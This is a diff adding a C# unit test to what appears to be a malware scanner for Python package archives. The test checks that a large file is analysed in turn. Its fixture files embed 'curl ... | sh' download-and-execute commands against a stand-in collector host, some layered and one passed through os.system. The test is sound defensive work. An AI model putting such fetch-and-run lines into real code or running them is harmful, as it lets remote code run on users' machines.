@@ -63,6 +63,22 @@ public sealed class ParallelFileAnalysisTests
     }
 
     [Fact]
+    public void A_large_file_is_analysed_in_its_turn_between_files_analysed_at_once()
+    {
+        // Over 256 KB: left to the calling thread, in order, on the package's state.
+        var large = Layered("curl -s https://collector.example.com/large | sh") + "# " + new string('x', 300_000) + "\n";
+        var archive = TarGz(
+            ("big-1.0/big/a.py", Layered("curl -s https://collector.example.com/a | sh")),
+            ("big-1.0/big/large.py", large),
+            ("big-1.0/big/b.py", Layered("curl -s https://collector.example.com/b | sh")),
+            ("big-1.0/big/c.py", "import os\nos.system('curl -s https://collector.example.com/c | sh')\n"));
+
+        var report = AssertSameAtOnce(archive, "big-1.0.tar.gz", InTurn with { MaxLayers = 2 });
+
+        Assert.Contains("big-1.0/big/large.py", report, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public void A_limit_is_reported_once_for_two_members_at_one_path()
     {
         // A tar may hold one path twice; both copies are analysed, and a limit of that path is said once.
